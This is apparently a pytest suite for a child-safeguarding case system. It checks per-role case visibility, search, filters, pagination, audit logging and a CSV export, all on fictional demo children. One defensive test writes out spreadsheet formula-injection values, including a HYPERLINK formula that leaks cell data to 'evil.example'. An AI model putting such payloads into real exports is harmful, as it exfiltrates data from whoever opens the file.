"""The case list, search, overdue interviews and the CSV export: what they find, and that they never leak.

DESIGN §3: lists and searches never include what the user may not see, counts included.
DESIGN §8: every search and export is an audit event; a search term (perhaps a child's name) is not kept.
"""

import csv
import io
import json
from datetime import UTC, date, datetime, timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from cases import services
from cases.models import Case, CaseStatus
from met.models import AuditEvent
from tests.cases import (
    CHAIR,
    COORDINATOR,
    HEALTH,
    POLICE,
    SCHOOL,
    add_episode,
    agency,
    log_referral,
    make_case,
    text,
    user,
)

EVERYONE = {"Quillworth", "Thistleton", "Copperfield", "Hollowgate", "Pebblestead", "Lanterndale"}
# Who sees which child, by last name (DESIGN §3).
VISIBLE = {
    COORDINATOR: EVERYONE,
    CHAIR: EVERYONE,
    POLICE: {"Quillworth", "Lanterndale"},
    HEALTH: {"Quillworth", "Copperfield"},  # Copperfield is restricted, to the Health practitioner by name
    SCHOOL: {"Thistleton", "Pebblestead"},  # Copperfield involves Education, but is restricted
}


@pytest.fixture
def world(demo_data):
    police, health, school = demo_data[POLICE], demo_data[HEALTH], demo_data[SCHOOL]
    cases = {
        "Quillworth": make_case(
            agencies=("Police", "Health"),
            lead=police,
            risk_level="high",
            category_code="cse",
            first_name="Jayden",
            last_name="Quillworth",
            known_as="Jaybird",
            date_of_birth=date(2010, 3, 27),
            police_number="HC-1001",
        ),
        "Thistleton": make_case(
            agencies=("Education", "CSC"),
            lead=school,
            risk_level="low",
            category_code="cce",
            first_name="Amber",
            last_name="Thistleton",
            csc_number="CSC-2002",
            nhs_number="9434765919",
            placed_out_of_area=True,
        ),
        "Copperfield": make_case(
            agencies=("Education", "Health"),
            restricted_to=[health],
            risk_level="medium",
            category_code="county_lines",
            first_name="Mason",
            last_name="Copperfield",
            date_of_birth=date(2010, 3, 27),
        ),
        "Hollowgate": make_case(
            status=CaseStatus.REFERRED,
            category_code="trafficking",
            first_name="Isla",
            last_name="Hollowgate",
            placed_by_other_authority=True,
            placing_authority="Exampleshire County Council",
        ),
        "Pebblestead": make_case(
            agencies=("Education",),
            status=CaseStatus.CLOSED,
            risk_level="none",
            category_code="modern_slavery",
            first_name="Noah",
            last_name="Pebblestead",
        ),
        "Lanterndale": make_case(
            agencies=("Police",),
            risk_level="medium",
            category_code="missing",
            first_name="Ruby",
            last_name="Lanterndale",
        ),
    }
    # Three episodes starting within 90 days: Jayden is frequently missing; his latest interview is overdue.
    quill = cases["Quillworth"]
    for days_ago in (40, 20):
        went = timezone.now() - timedelta(days=days_ago)
        add_episode(quill, days_ago=days_ago, rhi_completed_at=went + timedelta(hours=30), rhi_by="RHI Service")
    add_episode(quill, days_ago=5)
    # Interviews overdue for Amber and for Mason too.
    add_episode(cases["Thistleton"], days_ago=6)
    add_episode(cases["Copperfield"], days_ago=7)
    for case in cases.values():
        case.refresh_from_db()
    return cases


def names(response) -> set[str]:
    """The last names of the children on the page of cases (or of missing episodes) shown."""
    assert response.status_code == 200
    return {getattr(row, "case", row).child.last_name for row in response.context["page"].object_list}


# --- who sees what --------------------------------------------------------------------------


@pytest.mark.parametrize("email", list(VISIBLE))
def test_it_lists_only_the_cases_each_user_may_see_and_counts_only_those(world, login, email):
    response = login(user(email)).get(reverse("case_list"))

    assert names(response) == VISIBLE[email]
    count = len(VISIBLE[email])
    assert response.context["page"].paginator.count == count
    assert f"{count} case{'s' if count != 1 else ''}</caption>" in text(response)
    for hidden in EVERYONE - VISIBLE[email]:
        assert hidden not in text(response)


@pytest.mark.parametrize("email", list(VISIBLE))
def test_it_searches_only_among_the_cases_each_user_may_see(world, login, email):
    # Every child's name contains an "e" (Jayden, Amber, Mason Copperfield, Hollowgate, Noah Pebblestead, Ruby Lanterndale).
    response = login(user(email)).get(reverse("case_search"), {"q": "e"})

    assert names(response) == VISIBLE[email]
    count = len(VISIBLE[email])
    assert f"{count} result{'s' if count != 1 else ''} among the cases you can see." in text(response)


@pytest.mark.parametrize(
    ("email", "expected"),
    [
        (COORDINATOR, {"Quillworth", "Thistleton", "Copperfield"}),
        (POLICE, {"Quillworth"}),
        (HEALTH, {"Quillworth", "Copperfield"}),
        (SCHOOL, {"Thistleton"}),
    ],
)
def test_it_lists_overdue_interviews_only_on_cases_the_user_may_see(world, login, email, expected):
    response = login(user(email)).get(reverse("rhi_overdue_list"))

    assert names(response) == expected
    for hidden in EVERYONE - expected:
        assert hidden not in text(response)


@pytest.mark.parametrize(
    "query",
    [{"agency": "Police"}, {"flag": "restricted"}, {"risk_level": "high"}, {"status": "referred"}],
    ids=["agency", "flag", "risk", "status"],
)
def test_it_gives_the_school_nothing_when_filtering_for_cases_it_cannot_see(world, login, query):
    if "agency" in query:
        query = {"agency": agency(query["agency"]).pk}

    response = login(user(SCHOOL)).get(reverse("case_list"), query)

    assert names(response) == set()
    assert response.context["page"].paginator.count == 0


def test_it_finds_nothing_for_the_school_by_the_identifier_of_a_case_it_cannot_see(world, login):
    client = login(user(SCHOOL))

    responses = [client.get(reverse("case_search"), {"q": q}) for q in ("HC-1001", "27/03/2010", "Quillworth")]

    assert [names(r) for r in responses] == [set(), set(), set()]


# --- search ---------------------------------------------------------------------------------

SEARCHES = {
    "first name part": ("jayd", {"Quillworth"}),
    "last name part": ("QUILL", {"Quillworth"}),
    "two words": ("jayden quill", {"Quillworth"}),
    "two words, one wrong": ("jayden thistle", set()),
    "known as": ("jaybird", {"Quillworth"}),
    "words in any order, any names": ("quillworth JAYBIRD", {"Quillworth"}),
    "not a word across two names": ("jaydenquill", set()),
    "wildcards taken literally": ("jay%", set()),
    "a single-character wildcard taken literally": ("jay_en", set()),
    "date of birth, day first": ("27/03/2010", {"Quillworth", "Copperfield"}),
    "date of birth, short day and month": ("27/3/2010", {"Quillworth", "Copperfield"}),
    "date of birth, ISO": ("2010-03-27", {"Quillworth", "Copperfield"}),
    "police identifier, any case": ("hc-1001", {"Quillworth"}),
    "social care identifier": ("CSC-2002", {"Thistleton"}),
    "NHS number": ("9434765919", {"Thistleton"}),
    "NHS number with spaces": ("943 476 5919", {"Thistleton"}),
    "nobody": ("Zebedee", set()),
}


@pytest.mark.parametrize(("q", "expected"), SEARCHES.values(), ids=SEARCHES.keys())
def test_it_finds_children_by_name_known_as_date_of_birth_or_identifier(world, login, q, expected):
    response = login(user(COORDINATOR)).get(reverse("case_search"), {"q": q})

    assert names(response) == expected
    for name in expected:
        assert name in text(response)


def test_it_finds_a_visible_child_by_date_of_birth_but_not_the_restricted_one(world, login):
    response = login(user(POLICE)).get(reverse("case_search"), {"q": "27/03/2010"})

    assert names(response) == {"Quillworth"}
    assert "Copperfield" not in text(response)


def test_it_shows_a_blank_search_form_before_anything_is_searched(world, login):
    response = login(user(POLICE)).get(reverse("case_search"))

    assert response.status_code == 200
    assert response.context["page"] is None
    assert not AuditEvent.objects.filter(action="case.search").exists()


def test_it_says_so_when_a_search_finds_nobody(world, login):
    # APP BUG: templates/cases/search.html tests {% if page %}; an empty Page is falsy (len 0), so
    # the "No children found" message (and its link to log a concern) is never shown.
    response = login(user(SCHOOL)).get(reverse("case_search"), {"q": "Quillworth"})

    assert response.status_code == 200
    assert "No children found among the cases you can see." in text(response)


def test_it_says_so_when_no_case_matches_the_filters(world, login):
    # APP BUG: templates/cases/case_list.html has the same {% elif page %} on an empty Page.
    response = login(user(COORDINATOR)).get(reverse("case_list"), {"flag": "restricted", "status": "closed"})

    assert response.status_code == 200
    assert response.context["page"].paginator.count == 0
    assert "No cases match these filters" in text(response)


# --- every search is audited, without the search term ---------------------------------------


@pytest.mark.parametrize(("q", "results"), [("Jayden", 1), ("27/03/2010", 2), ("HC-1001", 1), ("Zebedee", 0)])
def test_it_records_every_search_without_the_search_term(world, login, q, results):
    client = login(user(COORDINATOR))

    response = client.get(reverse("case_search"), {"q": q})

    assert response.status_code == 200
    event = AuditEvent.objects.get(action="case.search")
    assert event.actor == user(COORDINATOR)
    assert (event.object_type, event.object_id) == ("cases.case", "search")
    assert event.detail == {"results": results}
    assert q.lower() not in json.dumps(event.detail).lower()
    assert event.ip_address == "127.0.0.1"


def test_it_records_each_search_as_its_own_event(world, login):
    client = login(user(SCHOOL))

    for q in ("Amber", "Noah", "Jayden"):
        client.get(reverse("case_search"), {"q": q})

    events = AuditEvent.objects.filter(action="case.search").order_by("id")
    assert [e.detail for e in events] == [{"results": 1}, {"results": 1}, {"results": 0}]
    assert {e.actor.email for e in events} == {SCHOOL}


# --- filters --------------------------------------------------------------------------------

FILTERS = {
    "status open": ({"status": "open"}, {"Quillworth", "Thistleton", "Copperfield", "Lanterndale"}),
    "status referred": ({"status": "referred"}, {"Hollowgate"}),
    "status closed": ({"status": "closed"}, {"Pebblestead"}),
    "risk high": ({"risk_level": "high"}, {"Quillworth"}),
    "risk medium": ({"risk_level": "medium"}, {"Copperfield", "Lanterndale"}),
    "risk not assessed": ({"risk_level": "not_assessed"}, {"Hollowgate"}),
    "category cse": ({"category": "cse"}, {"Quillworth"}),
    "category county lines": ({"category": "county_lines"}, {"Copperfield"}),
    "category trafficking": ({"category": "trafficking"}, {"Hollowgate"}),
    "flag frequent missing": ({"flag": "frequent_missing"}, {"Quillworth"}),
    "flag high risk": ({"flag": "high_risk"}, {"Quillworth"}),
    "flag placed out of area": ({"flag": "placed_out_of_area"}, {"Thistleton"}),
    "flag placed here": ({"flag": "placed_here"}, {"Hollowgate"}),
    "flag restricted": ({"flag": "restricted"}, {"Copperfield"}),
    "agency Education": ({"agency": "Education"}, {"Thistleton", "Copperfield", "Pebblestead"}),
    "agency Police": ({"agency": "Police"}, {"Quillworth", "Lanterndale"}),
    "lead professional": ({"lead_professional": POLICE}, {"Quillworth"}),
    "two filters": ({"agency": "Education", "status": "open"}, {"Thistleton", "Copperfield"}),
    "empty filters": ({"status": "", "risk_level": "", "category": "", "flag": ""}, EVERYONE),
}


def resolve(query: dict) -> dict:
    query = dict(query)
    if query.get("agency"):
        query["agency"] = agency(query["agency"]).pk
    if query.get("lead_professional"):
        query["lead_professional"] = user(query["lead_professional"]).pk
    return query


@pytest.mark.parametrize(("query", "expected"), FILTERS.values(), ids=FILTERS.keys())
def test_it_narrows_the_case_list_by_each_filter(world, login, query, expected):
    response = login(user(COORDINATOR)).get(reverse("case_list"), resolve(query))

    assert names(response) == expected
    assert response.context["page"].paginator.count == len(expected)


def test_it_narrows_a_practitioner_s_list_within_what_they_may_see(world, login):
    response = login(user(HEALTH)).get(reverse("case_list"), {"agency": agency("Education").pk})

    assert names(response) == {"Copperfield"}


def test_it_shows_the_frequent_missing_and_restricted_tags_in_the_list(world, login):
    page = text(login(user(COORDINATOR)).get(reverse("case_list")))

    assert page.count('govuk-tag--purple">Frequent missing</strong>') == 1
    assert page.count('govuk-tag--pink">Restricted</strong>') == 1


# --- pagination -----------------------------------------------------------------------------


@pytest.fixture
def thirty_referrals(demo_data):
    return [log_referral(first_name="Pagekid") for _ in range(30)]


def test_it_shows_25_cases_a_page_newest_first(thirty_referrals, login):
    client = login(user(COORDINATOR))

    first = client.get(reverse("case_list"))
    second = client.get(reverse("case_list"), {"page": 2})

    newest_first = [c.pk for c in reversed(thirty_referrals)]
    assert [c.pk for c in first.context["page"].object_list] == newest_first[:25]
    assert [c.pk for c in second.context["page"].object_list] == newest_first[25:]
    assert "Page 1 of 2" in text(first)
    assert "Page 2 of 2" in text(second)
    assert "30 cases" in text(first)


def test_it_keeps_the_filters_in_the_page_links(thirty_referrals, login):
    response = login(user(COORDINATOR)).get(reverse("case_list"), {"status": "referred", "category": "cse"})

    assert response.context["page"].paginator.count == 30
    assert 'href="?status=referred&amp;category=cse&amp;page=2"' in response.content.decode()


def test_it_pages_a_practitioner_s_list_by_what_they_may_see(thirty_referrals, login, demo_data):
    # Ten of the thirty become Police cases: one page for the Police practitioner, never "page 2 of 2".
    for case in thirty_referrals[:10]:
        services.case_open(
            actor=demo_data[COORDINATOR],
            case=case,
            lead_agency=agency("Police"),
            lead_professional=None,
            agencies_involved=[],
            categories=list(case.categories.all()),
        )
    client = login(user(POLICE))

    first = client.get(reverse("case_list"))
    second = client.get(reverse("case_list"), {"page": 2})

    assert first.context["page"].paginator.count == 10
    assert "Page 1 of" not in text(first)
    assert second.status_code == 404
    assert "There is no page 2: the list has 1 page." in text(second)


# --- CSV export -----------------------------------------------------------------------------

HEADERS = [
    "Reference",
    "First name",
    "Last name",
    "Date of birth",
    "Status",
    "Risk level",
    "Categories",
    "Frequent missing",
    "Restricted",
    "Lead agency",
    "Lead professional",
    "Agencies involved",
    "Opened",
]


def rows(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_it_exports_the_filtered_cases_one_row_each(world, login):
    response = login(user(COORDINATOR)).get(reverse("case_export"), {"agency": agency("Education").pk})

    table = rows(response)
    assert table[0] == HEADERS
    assert sorted(row[2] for row in table[1:]) == ["Copperfield", "Pebblestead", "Thistleton"]
    assert response["Content-Disposition"].startswith('attachment; filename="met-cases-')


def test_it_writes_what_the_list_shows_in_each_column(world, login):
    response = login(user(COORDINATOR)).get(reverse("case_export"), {"flag": "frequent_missing"})

    (row,) = rows(response)[1:]
    quill = world["Quillworth"]
    record = dict(zip(HEADERS, row, strict=True))
    assert record == {
        "Reference": quill.reference,
        "First name": "Jayden",
        "Last name": "Quillworth",
        "Date of birth": "2010-03-27",
        "Status": "Open",
        "Risk level": "High",
        "Categories": "Child sexual exploitation",
        "Frequent missing": "yes",
        "Restricted": "no",
        "Lead agency": "Police",
        "Lead professional": "Parker Demo-Officer",
        "Agencies involved": record["Agencies involved"],
        "Opened": quill.opened_at.date().isoformat(),
    }
    assert sorted(record["Agencies involved"].split("; ")) == ["Health", "Police"]


def test_it_writes_the_day_a_case_opened_in_local_time(demo_data, login):
    # APP BUG: cases/views.py case_export writes case.opened_at.date(), the UTC date. A case opened at
    # 00:30 on 2 July in the UK (23:30 UTC on 1 July) is exported as opened on 1 July.
    case = make_case(agencies=("Police",), last_name="Midnightby")
    Case.objects.filter(pk=case.pk).update(opened_at=datetime(2026, 7, 1, 23, 30, tzinfo=UTC))

    (row,) = rows(login(user(COORDINATOR)).get(reverse("case_export")))[1:]

    assert row[HEADERS.index("Opened")] == "2026-07-02"


def test_it_exports_every_case_for_a_chair(world, login):
    response = login(user(CHAIR)).get(reverse("case_export"))

    assert sorted(row[2] for row in rows(response)[1:]) == sorted(EVERYONE)


@pytest.mark.parametrize(
    ("first_name", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
            '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        ),
        ("+SUM(1,2)", "'+SUM(1,2)"),
        ("-2+3", "'-2+3"),
        ("@cmd", "'@cmd"),
        ("Jo=Ann", "Jo=Ann"),
    ],
)
def test_it_writes_a_cell_that_would_run_as_a_formula_as_text(demo_data, login, first_name, written):
    make_case(agencies=("Police",), first_name=first_name, last_name="Formulaby")

    table = rows(login(user(COORDINATOR)).get(reverse("case_export")))

    (row,) = table[1:]
    assert row[1] == written
    assert row[2] == "Formulaby"


def test_it_records_the_export_with_the_cases_it_contained(world, login):
    response = login(user(COORDINATOR)).get(reverse("case_export"), {"agency": agency("Education").pk})

    assert response.status_code == 200
    event = AuditEvent.objects.get(action="case.export")
    assert event.actor == user(COORDINATOR)
    expected = sorted(world[name].pk for name in ("Thistleton", "Copperfield", "Pebblestead"))
    assert sorted(event.detail["cases"]) == expected
    assert event.detail["count"] == 3
    # Ids only: no child's name in the audit trail.
    assert "Thistleton" not in json.dumps(event.detail)


@pytest.mark.parametrize("email", [POLICE, HEALTH, SCHOOL])
def test_it_refuses_the_export_to_practitioners(world, login, email):
    response = login(user(email)).get(reverse("case_export"))

    assert response.status_code == 403
    assert response["Content-Type"].startswith("text/html")
    assert "Quillworth" not in text(response)
    assert not AuditEvent.objects.filter(action="case.export").exists()


def test_it_offers_the_export_link_with_the_filters_to_the_coordinator_only(world, login):
    query = {"risk_level": "medium"}

    coordinator = text(login(user(COORDINATOR)).get(reverse("case_list"), query))
    police = text(login(user(POLICE)).get(reverse("case_list"), query))

    assert f'href="{reverse("case_export")}?risk_level=medium"' in coordinator
    assert "Download these cases (CSV)" not in police


def test_it_offers_a_new_practitioner_as_lead_professional_at_once(world, login):
    from tests.factories import UserFactory

    client = login(user(COORDINATOR))
    client.get(reverse("case_list"))  # the choices are now kept
    newcomer = UserFactory(full_name="Quentin Newhire", agency=agency("Police"))

    response = client.get(reverse("case_list"), {"lead_professional": newcomer.pk})

    assert response.status_code == 200
    assert f'<option value="{newcomer.pk}" selected>Quentin Newhire</option>' in response.content.decode()


def test_it_keeps_the_lead_professional_choices_when_someone_signs_in(world, login, django_assert_num_queries):
    client = login(user(COORDINATOR))
    client.get(reverse("case_list"))
    with django_assert_num_queries(0):
        from cases.forms import _practitioners

        before = _practitioners()
    login(user(POLICE))  # saves last_login only

    with django_assert_num_queries(0):
        assert _practitioners() == before
